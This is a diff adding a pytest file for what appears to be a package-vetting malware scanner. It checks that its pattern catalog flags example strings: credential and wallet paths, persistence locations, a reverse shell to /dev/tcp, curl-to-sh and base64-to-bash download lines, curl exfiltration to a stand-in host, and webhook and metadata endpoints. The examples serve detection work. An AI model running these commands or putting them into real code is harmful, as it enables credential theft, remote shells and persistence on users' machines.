@@ -1,0 +1,43 @@
+"""The capability catalog: every literal pattern still fires through the fast screens."""
+
+from __future__ import annotations
+
+import pytest
+
+from pkgvet.analyzer._facts import catalog
+
+EXAMPLES = {
+    "credentials": ["/home/u/.ssh/id_rsa", "C:\\Users\\u\\.aws\\credentials", "Login Data",
+                    "Local Storage\\leveldb", "wallet.dat", "/etc/passwd", "~/.pypirc"],
+    "secret_env": ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "TWINE_PASSWORD"],
+    "persistence": ["/etc/cron.d/job", "~/.bashrc", "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+                    "~/.config/autostart/x.desktop", "sitecustomize.py", "schtasks /create /tn x"],
+    "download_cmd": ["powershell -WindowStyle Hidden -EncodedCommand AAAA",
+                     "curl -s https://x.invalid/a.sh | sh", "certutil -urlcache -f http://x/a a",
+                     "bash -i >& /dev/tcp/127.0.0.1/9 0>&1", "echo aGk= | base64 -d | bash",
+                     "curl -d $(whoami) https://x.invalid", "start pythonw x.py"],
+    "shell_cmd": ["whoami", "uname -a", "ipconfig /all"],
+    "bad_endpoint": ["https://discord.com/api/webhooks/123456789/abcdefghijklmnopqrstuvwxyz",
+                     "https://abcd.ngrok.io/x", "https://eo1234.m.pipedream.net",
+                     "https://pastebin.com/raw/abcd", "x.oastify.com"],
+    "raw_ip_url": ["http://8.8.4.4/payload"],
+    "shell_bin": ["/bin/sh", "cmd.exe", "bash"],
+    "pip_cmd": ["pip install x", "pip3"],
+    "stealer_pkg": ["browser_cookie3", "discord-webhook", "pyautogui"],
+    "payload_url": ["https://x.invalid/a.exe", "https://dl.dropbox.com/s/abc/file"],
+    "cloud_metadata": ["http://169.254.169.254/latest/meta-data/"],
+}
+
+
+@pytest.mark.parametrize(("cap", "text"), [(c, t) for c, ts in EXAMPLES.items() for t in ts])
+def test_examples_reach_their_pattern(cap: str, text: str) -> None:
+    assert cap in catalog().literal_caps(text)
+
+
+def test_every_literal_cap_has_examples() -> None:
+    assert set(catalog().literals) - {"encoded_cmd_hint"} == set(EXAMPLES)
+
+
+@pytest.mark.parametrize("text", ["utf-8", "Invalid value: {}", "float64", "hello world"])
+def test_ordinary_literals_have_no_caps(text: str) -> None:
+    assert catalog().literal_caps(text) == []
